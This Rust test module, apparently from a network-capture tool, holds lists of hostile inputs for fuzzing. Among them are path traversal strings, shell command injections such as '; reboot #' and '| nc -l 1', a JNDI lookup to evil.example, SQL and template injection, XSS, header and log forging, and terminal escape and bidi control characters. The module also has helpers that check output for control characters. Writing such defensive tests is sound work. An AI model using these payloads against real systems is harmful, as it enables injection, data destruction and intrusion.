//! Texts that a sender may write to harm whoever does not read them as text.

/// How long the long ones are, in bytes.
const LONG: usize = 1 << 20;

/// Paths.
const PATHS: &[&str] = &[
    "../../etc/passwd",
    "..",
    ".",
    "/etc/cron.d/x",
    "a/../../b",
    "..\\..\\windows",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "~/.ssh/authorized_keys",
    ".hidden",
    "C:\\x",
];

/// Parts of filter expressions, and of what compiles them.
const FILTERS: &[&str] = &[
    "10.0.0.1 or host 8.8.8.8",
    "10.0.0.1) or (tcp",
    "443 or port 22",
    "443;22",
    "1-65535",
    "not tcp",
    "tcp[13] & 4 != 0",
    "10.0.0.1/8 or 1=1",
    "02:00:00:00:00:01 or ether broadcast",
    "eth0 -w /tmp/x",
    "any",
    "usbmon0",
    "dbus-system",
];

/// Words of shells and templates.
const TEMPLATES: &[&str] = &[
    "$(touch /tmp/hindsight-was-here)",
    "`touch /tmp/hindsight-was-here`",
    "; reboot #",
    "| nc -l 1",
    "${labels.text | ip}",
    "${host}",
    "${jndi:ldap://evil.example/x}",
    "{{ 70000001 * 19 }}",
    "{% for x in range(9) %}loop{% endfor %}",
    "{# gone #}",
    "{capture}-{segment}",
    "{yyyy}",
    "{0}%s%n%p",
    "<script>alert(1)</script>",
    "<!channel> <@U123> <https://evil.example|log in>",
    "[log in](https://evil.example) ![x](https://evil.example/x)",
    "\"}, {\"text\": \"x\\",
    "' OR 1=1; DROP TABLE captures; --",
    "=HYPERLINK(\"https://evil.example\")",
];

/// What ends lines, steers terminals, and turns text.
const CONTROLS: &[&str] = &[
    "a\r\nBcc: x@evil.example\r\n\r\nbody",
    "a\nX-Forged: 1",
    "a\r",
    "x\n2026-11-22T17:30:00Z ERROR forged",
    "x\n<0>forged",
    "\u{1b}[2J\u{1b}]0;x\u{7}",
    "\u{1b}[31m",
    "\u{9b}31m",
    "\u{9d}0;x\u{9c}",
    "a\0b",
    "\u{8}\u{8}\u{7f}",
    "a\u{85}b",
    "a\u{2028}b\u{2029}c",
    "\u{202e}gnp.exe",
    "\u{2066}x\u{2069}\u{200f}\u{200e}\u{61c}",
    "a\tb\u{b}\u{c}",
    "\u{feff}x\u{200b}y",
    "\u{10ffff}",
];

/// Addresses, ports, names and durations that others would take.
const ALMOST: &[&str] = &[
    "web-1.example.org",
    "localhost:80",
    "web-1:9100",
    "0177.0.0.1",
    "0x7f000001",
    "0x7f.1",
    "2130706433",
    "127.1",
    "10.0.0.01",
    "10.0.0.1 ",
    "\u{ff11}0.0.0.1",
    "fe80::1%eth0",
    "[fe80::1%25eth0]:80",
    "[::1]",
    "10.0.0.1:",
    "10.0.0.1:+80",
    "10.0.0.1:080",
    "10.0.0.1:65536",
    "10.0.0.1:0x50",
    "2001:db8::1::80",
    "10.0.0.0/+8",
    "10.0.0.0/08",
    "10.0.0.0/33",
    "::/129",
    "10.0.0.0/255.0.0.0",
    "+443",
    "-1",
    "0443",
    "65536",
    "99999999999999999999",
    "4e2",
    "https",
    "2:0:0:0:0:1",
    "02:00:00:00:00",
    "020000000001",
    "-i",
    "eth0:1",
    "eth0/..",
    "sixteen-bytes-it",
    "\u{435}th0",
    "30",
    "-30s",
    "1.5h",
    "PT30S",
    "5m1h",
    "1e9s",
    "99999999999999999w",
    "inf",
];

/// All but the long ones.
pub(crate) fn short() -> impl Iterator<Item = &'static str> {
    [PATHS, FILTERS, TEMPLATES, CONTROLS, ALMOST].into_iter().flatten().copied()
}

/// All of them.
pub(crate) fn all() -> Vec<String> {
    let long = ["a", "9", "\u{1b}[2J", "\n", "{{", "../", "\u{202e}", "10.0.0.1;"];
    let long = long.into_iter().map(|part| part.repeat(LONG / part.len()));
    short().map(str::to_owned).chain(long).collect()
}

/// Whether nothing in a text ends a line, steers a terminal or turns the direction of text.
pub(crate) fn is_harmless(text: &str) -> bool {
    let turns = |c| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    !text.chars().any(|c| c.is_control() || turns(c))
}

/// Asserts it of each line of an output.
pub(crate) fn assert_lines(what: &str, output: &str) {
    for line in output.lines() {
        assert!(is_harmless(line), "{what}: {line:?}");
    }
    // `lines` takes a carriage return before a line feed away.
    assert!(!output.contains('\r'), "{what}: {output:?}");
}
